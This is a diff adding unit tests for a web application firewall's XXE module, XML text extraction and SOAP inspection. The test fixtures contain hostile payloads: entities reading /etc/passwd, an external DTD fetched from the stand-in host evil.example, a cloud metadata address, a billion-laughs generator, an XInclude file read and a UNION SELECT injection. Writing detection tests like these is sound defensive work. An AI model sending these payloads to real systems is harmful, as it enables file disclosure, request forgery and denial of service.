@@ -0,0 +1,203 @@
+/**
+ * Unit tests for XXE Module and XML body inspection
+ */
+
+const request = require('supertest');
+const express = require('express');
+const waf = require('../../lib/index');
+const XXEModule = require('../../lib/modules/xxe');
+const XMLExtractor = require('../../lib/core/xml-extractor');
+const { createAnalysis, patternsFor } = require('../helpers');
+
+describe('XXE Module', () => {
+  let xxeModule;
+
+  beforeEach(() => {
+    xxeModule = new XXEModule({});
+  });
+
+  describe('Entity Declarations', () => {
+    test('should detect SYSTEM external entities', () => {
+      const result = xxeModule.analyze(createAnalysis({
+        body: '<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>'
+      }));
+
+      expect(result.module).toBe('xxe');
+      expect(patternsFor(result)).toEqual(['external-entity', 'doctype-declaration']);
+      expect(result.threats[0].matched).toContain('SYSTEM');
+    });
+
+    test('should detect parameter entities and external DTDs', () => {
+      const result = xxeModule.analyze(createAnalysis({
+        body: '<!DOCTYPE data SYSTEM "http://evil.example/x.dtd" [<!ENTITY % remote SYSTEM "http://evil.example/a">%remote;]><data/>'
+      }));
+
+      expect(patternsFor(result)).toEqual(['external-entity', 'parameter-entity', 'external-dtd', 'doctype-declaration']);
+    });
+
+    test('should detect PUBLIC identifiers', () => {
+      const result = xxeModule.analyze(createAnalysis({
+        body: '<!DOCTYPE r [<!ENTITY e PUBLIC "-//X//Y" "http://169.254.169.254/">]><r>&e;</r>'
+      }));
+
+      expect(patternsFor(result)).toContain('external-entity');
+    });
+  });
+
+  describe('Entity Expansion', () => {
+    test('should detect billion laughs', () => {
+      let entities = '<!ENTITY lol0 "lol">';
+      for (let i = 1; i <= 9; i++) {
+        entities += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
+      }
+      const result = xxeModule.analyze(createAnalysis({
+        body: `<?xml version="1.0"?><!DOCTYPE lolz [${entities}]><lolz>&lol9;</lolz>`
+      }));
+
+      expect(patternsFor(result)).toContain('entity-expansion');
+    });
+
+    test('should detect recursive entities', () => {
+      const result = xxeModule.analyze(createAnalysis({
+        body: '<!DOCTYPE r [<!ENTITY a "&b;"><!ENTITY b "&a;">]><r>&a;</r>'
+      }));
+
+      expect(patternsFor(result)).toContain('entity-recursion');
+    });
+
+    test('should allow small internal entities with configurable limit', () => {
+      const body = '<!DOCTYPE r [<!ENTITY c "Example Corp">]><r>&c;</r>';
+
+      expect(patternsFor(xxeModule.analyze(createAnalysis({ body })))).toEqual(['doctype-declaration']);
+
+      xxeModule = new XXEModule({ xxe: { maxEntityExpansion: 5 } });
+      expect(patternsFor(xxeModule.analyze(createAnalysis({ body })))).toContain('entity-expansion');
+    });
+
+    test('should flag long entity chains without exhausting the stack', () => {
+      const chain = count => '<!DOCTYPE r [' +
+        Array.from({ length: count }, (_, i) => `<!ENTITY e${i} "${i + 1 < count ? `&e${i + 1};` : 'x'}">`).join('') +
+        ']><r>&e0;</r>';
+
+      const started = Date.now();
+      const long = xxeModule.analyze(createAnalysis({ body: chain(8000) }));
+      const deep = xxeModule.analyze(createAnalysis({ body: chain(500) }));
+      expect(Date.now() - started).toBeLessThan(500);
+
+      expect(patternsFor(long)).toContain('entity-limit');
+      expect(patternsFor(deep)).toContain('entity-depth');
+      expect(patternsFor(xxeModule.analyze(createAnalysis({ body: chain(20) })))).toEqual(['doctype-declaration']);
+    });
+
+    test('should check unterminated declarations in linear time', () => {
+      const bodies = [
+        '<!DOCTYPE r [' + '<!ENTITY a "'.repeat(20000),
+        '<!DOCTYPE a['.repeat(10000),
+        '<!DOCTYPE a '.repeat(10000),
+        '<x:include '.repeat(10000)
+      ];
+
+      bodies.forEach(body => {
+        const started = Date.now();
+        xxeModule.analyze(createAnalysis({ body }));
+        expect(Date.now() - started).toBeLessThan(500);
+      });
+    });
+  });
+
+  describe('XInclude', () => {
+    test('should detect XInclude', () => {
+      const result = xxeModule.analyze(createAnalysis({
+        body: '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>'
+      }));
+
+      expect(patternsFor(result)).toEqual(['xinclude']);
+    });
+  });
+
+  describe('Safe Requests', () => {
+    test('should allow plain XML and non-XML bodies', () => {
+      const xml = xxeModule.analyze(createAnalysis({
+        body: '<?xml version="1.0"?><order><id>42</id><note>50% off; see terms</note></order>'
+      }));
+      const json = xxeModule.analyze(createAnalysis({ body: { q: '<!DOCTYPE' } }));
+
+      expect(xml).toBeNull();
+      expect(json).toBeNull();
+    });
+  });
+
+  describe('XML Text Extraction', () => {
+    const extractor = new XMLExtractor();
+
+    test('should extract decoded text, CDATA and attribute values', () => {
+      const texts = extractor.extract(
+        '<?xml version="1.0"?><!-- c --><a title="x &amp; y"><b>&lt;script&gt;</b><c><![CDATA[<img src=x>]]></c><d>&#39;&#x3b;</d></a>',
+        {}
+      );
+
+      expect(texts).toEqual(['x & y', '<script>', '<img src=x>', '\';']);
+    });
+
+    test('should only treat XML bodies as XML', () => {
+      expect(extractor.extract('<b>x</b>', { 'content-type': 'text/xml; charset=utf-8' })).toEqual(['x']);
+      expect(extractor.extract('<b>x</b>', { 'content-type': 'application/soap+xml' })).toEqual(['x']);
+      expect(extractor.extract('<b>x</b>', { 'content-type': 'text/plain' })).toEqual([]);
+      expect(extractor.extract({ b: 'x' }, { 'content-type': 'application/xml' })).toEqual([]);
+    });
+
+    test('should scan crafted markup in linear time', () => {
+      const inputs = [
+        '<!DOCTYPE a ' + '[]'.repeat(50000),
+        '<!DOCTYPE a [' + '<!ENTITY x "y">'.repeat(10000),
+        '<?xml?>' + '<![CDATA['.repeat(20000),
+        '<?xml?>' + '<a'.repeat(50000),
+        '<?xml?><a ' + 'b'.repeat(100000),
+        '<?xml?><a ' + 'b '.repeat(50000) + '>'
+      ];
+
+      inputs.forEach(input => {
+        const started = Date.now();
+        extractor.extract(input, { 'content-type': 'text/plain' });
+        expect(Date.now() - started).toBeLessThan(500);
+      });
+    });
+
+    test('should only read the first xml.maxSize characters', () => {
+      const small = new XMLExtractor({ xml: { maxSize: 15 } });
+
+      expect(small.extract('<a>first</a><b>second</b>', { 'content-type': 'application/xml' })).toEqual(['first']);
+    });
+
+    test('should let the SQLi module scan SOAP text nodes', async () => {
+      const app = express();
+      app.use(express.text({ type: ['application/xml', 'text/xml', 'application/soap+xml'] }));
+      const wafMiddleware = waf({
+        modules: ['sqli', 'xxe'],
+        threshold: 5,
+        adaptiveLearning: false,
+        anomalyThreshold: 1000 // Disable anomaly scoring for tests
+      });
+      app.use(wafMiddleware.middleware());
+      app.post('/soap', (req, res) => res.json({ ok: true }));
+
+      await request(app)
+        .post('/soap')
+        .set('Content-Type', 'text/xml')
+        .send('<Envelope><Body><GetUser><id>1</id></GetUser></Body></Envelope>')
+        .expect(200);
+
+      await request(app)
+        .post('/soap')
+        .set('Content-Type', 'text/xml')
+        .send('<Envelope><Body><GetUser><id>1&#39; UNION SELECT password FROM users--</id></GetUser></Body></Envelope>')
+        .expect(403);
+
+      await request(app)
+        .post('/soap')
+        .set('Content-Type', 'application/xml')
+        .send('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>')
+        .expect(403);
+    });
+  });
+});